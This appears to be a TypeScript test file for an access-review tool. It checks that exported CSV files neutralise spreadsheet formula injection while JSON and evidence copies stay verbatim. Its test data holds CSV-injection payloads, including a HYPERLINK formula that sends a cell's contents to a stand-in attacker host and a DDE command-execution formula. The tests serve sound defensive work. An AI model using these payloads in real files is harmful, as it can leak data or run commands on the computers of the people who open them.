// Cells that a spreadsheet would run: neutralised in the lists that people open, verbatim where programs read.
import { readFile } from 'node:fs/promises';
import { describe, expect, test } from 'vitest';
import { asWritten } from '../../../core/values/formula.ts';
import { aCompany } from '../../support/program/company.ts';
import { anIdentity } from '../../support/inputs/population-builder.ts';
import { csvCells } from '../../support/program/run-files.ts';

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+1',
  '-1',
  '\uFF1D1+1',
  '\t=1+1',
  '\rnew line',
];

describe.each(formulas)('%j', (formula) => {
  test('is neutralised in population.csv, proposals.csv and findings.csv', async () => {
    // The export's own cells are trimmed as they are read; a directory's name opens the reason of a finding as it is.
    const left = anIdentity({ login: 'left@acme.com', id: formula, name: formula, state: 'deleted', assignments: [] });
    const company = await aCompany({
      accounts: ['jane@acme.com', { email: 'left@acme.com', name: formula, role: formula }],
      people: ['jane@acme.com', left],
    });
    const { document, files } = await company.review();
    for (const name of ['population.csv', 'proposals.csv', 'findings.csv']) {
      const cells = (await csvCells(`${document.folder}/${name}`)).flat();
      expect(cells.filter((cell) => /^[\s]*[=+\-@\uFF1D]|^[\t\r\n]/.test(cell))).toEqual([]);
    }
    const trimmed = formula.trim();
    expect(files.population[1]?.['role']).toBe(trimmed === 'new line' ? trimmed : `'${trimmed}`);
    const identity = files.population[1]?.['identity'] ?? '';
    expect([identity[0], asWritten(identity)]).toEqual(["'", formula]);
    const reason = files.findingsCsv.find(({ code }) => code === 'LEAVER_ACCOUNT')?.['reason'] ?? '';
    const written = files.findings.findings.find(({ code }) => code === 'LEAVER_ACCOUNT')?.reason;
    expect([reason[0], asWritten(reason)]).toEqual(["'", written]);
  });

  test('is verbatim in findings.json and in the evidence', async () => {
    const left = anIdentity({ login: 'left@acme.com', id: formula, state: 'deleted', assignments: [] });
    const company = await aCompany({
      accounts: ['jane@acme.com', { email: 'left@acme.com', name: formula }],
      people: ['jane@acme.com', left],
    });
    const { document, files } = await company.review();
    expect(files.findings.findings.find(({ code }) => code === 'LEAVER_ACCOUNT')?.identity).toBe(formula);
    expect(await readFile(`${document.folder}/evidence/export.csv`)).toEqual(await readFile(company.path('users.csv')));
  });
});

test('a login that begins like a formula is neutralised wherever it stands', async () => {
  const company = await aCompany({ accounts: ['jane@acme.com', '=1+1@acme.com', '+41@acme.com', '-x@acme.com'] });
  const { files } = await company.review();
  const logins = ["'=1+1@acme.com", "'+41@acme.com", "'-x@acme.com"];
  expect(files.population.slice(1).map(({ login }) => login)).toEqual(logins);
  expect(files.proposals.map(({ login }) => login)).toEqual(logins);
  expect(files.findingsCsv.map(({ login = '' }) => login).toSorted()).toEqual(logins.toSorted());
});

test('a name is no formula where a spreadsheet splits at semicolons', async () => {
  const company = await aCompany({ accounts: ['jane@acme.com', { email: 'ghost@acme.com', name: 'Doe;=1+1' }] });
  const { document, files } = await company.review();
  for (const name of ['population.csv', 'proposals.csv', 'findings.csv']) {
    const text = await readFile(`${document.folder}/${name}`, 'utf8');
    expect(text.split(/[;\n]/).filter((part) => /^\s*"?=/.test(part))).toEqual([]);
  }
  expect(asWritten(files.population[1]?.['name'] ?? '')).toBe('Doe;=1+1');
});
